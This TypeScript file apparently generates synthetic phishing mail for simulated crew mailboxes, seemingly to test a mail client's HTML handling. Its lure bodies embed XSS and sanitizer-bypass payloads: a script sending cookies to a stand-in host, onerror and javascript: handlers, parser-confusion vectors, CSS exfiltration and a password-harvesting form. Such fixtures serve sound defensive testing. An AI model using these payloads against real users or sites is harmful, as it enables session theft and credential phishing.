// Mail that means harm: phishing in Junk and, now and then, in the inbox. Every trick in it is known from
// real mail, and all of it points at names that cannot exist.
import { DAY, HOUR } from './clock.ts';
import { crewPerson } from './fleet.ts';
import { type Desk, write } from './mail.ts';

type Lure = { name: string; address: string; subject: string; html: string };

const BAD = 'https://login-secure-verify.example';

const LURES: Lure[] = [
  {
    name: 'Mailbox Administrator',
    address: 'no-reply@outlook-storage.example',
    subject: 'Your mailbox is 98% full - action required',
    html: `<html><head><script>document.location='${BAD}/s?c='+document.cookie</script><meta http-equiv="refresh" content="3;url=${BAD}/refresh"></head><body onload="fetch('${BAD}/load')"><form action="${BAD}/collect" method="post"><p>Confirm your password to keep receiving mail.</p><input name="user"><input type="password" name="pass"><button formaction="${BAD}/b">Upgrade storage</button></form><img src="x" onerror="new Image().src='${BAD}/e?'+document.domain"></body></html>`,
  },
  {
    name: 'DHX Parcel',
    address: 'tracking@parcel-dhx.example',
    subject: 'Parcel on hold: unpaid customs fee 2.99',
    html: `<html><head><base href="${BAD}/"><link rel="stylesheet" href="${BAD}/x.css"><style>@import '${BAD}/i.css';body{background:url("${BAD}/bg.gif")}#c{position:fixed;inset:0;z-index:9999;opacity:.01}input[value^="a"]{background:url(${BAD}/a)}</style></head><body><a id="c" href="javascript:alert(document.domain)">&nbsp;</a><p>Your parcel waits for payment.</p><a href="java&#115;cript:alert(1)">Pay now</a> <a href="${BAD}/pay" target="_top">https://www.parcel.example/pay</a><svg onload="alert(2)"><script>alert(3)</script></svg><iframe src="${BAD}/frame" srcdoc="<script>top.location='${BAD}'</script>"></iframe></body></html>`,
  },
  {
    name: 'Henrik Solberg',
    address: 'captain.corvina@private-mail.example',
    subject: 'Urgent - are you at your desk?',
    html: `<html><body><div style="font-family:Calibri">I am in a meeting and need you to settle an invoice today. Can you do it quietly? Send me your mobile number.<br><br>Henrik</div><img src="${BAD}/open.png" style="display:none" srcset="${BAD}/2x.png 2x"><object data="${BAD}/o.swf"></object><embed src="${BAD}/e.swf"><video src="${BAD}/v.mp4" poster="${BAD}/p.jpg" autoplay></video></body></html>`,
  },
  {
    name: 'Invoice Service',
    address: 'billing@inv0ice.example',
    subject: 'INVOICE OVERDUE FINAL NOTICE',
    html: `<html><body><table background="${BAD}/t.gif"><tr><td><p style="background-image:url('${BAD}/p.gif');behavior:url(#default#time2);width:expression(alert(4))">See invoice below.</p></td></tr></table><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(5)&gt;"></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript><template><script>alert(7)</script></template><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">Open invoice</a><marquee onstart="alert(9)">PAY</marquee></body></html>`,
  },
  {
    name: 'Crypto Skipper',
    address: 'win@skipper-coin.example',
    subject: '🚀🚀 Captain, 400% in one week 🚀🚀',
    html: `<html><body bgcolor="#000000" text="#00ff00"><h1 style="position:absolute;top:-400px;left:0;width:3000px;height:3000px;background:#000;z-index:2147483647">WIN</h1><blink>Act now</blink><a href="${BAD}/win"><img src="${BAD}/win.gif" usemap="#m" ismap></a><map name="m"><area shape="rect" coords="0,0,900,900" href="${BAD}/area"></map><audio src="${BAD}/a.mp3" autoplay></audio></body></html>`,
  },
  {
    name: 'Doctor Deals',
    address: 'shop@meds-now.example',
    subject: 'Save 80 % today',
    html: `<html><body><center><a href="${BAD}/shop"><img src="${BAD}/shop.jpg" width="600"></a><p style="font-size:0;color:#fff">unrelated words hidden from the eye: anchor kettle Thursday</p></center></body></html>`,
  },
];

/** Two dozen for each mailbox over two years; one in six slips through into the inbox. */
export function writeHostileMail(desk: Desk): void {
  for (const member of desk.yacht.crew) {
    const random = desk.random.fork(`hostile-${member.email}`);
    for (let n = 0; n < 24; n += 1) {
      const lure = LURES[(n + random.int(0, 1)) % LURES.length];
      if (!lure) continue;
      write(
        { ...desk, random },
        {
          at: desk.epoch - (n * 28 + random.next() * 27) * DAY - HOUR,
          from: { name: lure.name, address: lure.address },
          to: [crewPerson(desk.yacht, member)],
          subject: lure.subject,
          topic: 'junk',
          folder: n % 6 === 2 ? 'inbox' : 'junkemail',
          whole: { contentType: 'html', content: lure.html },
          more: { inferenceClassification: 'other' },
        },
      );
    }
  }
}
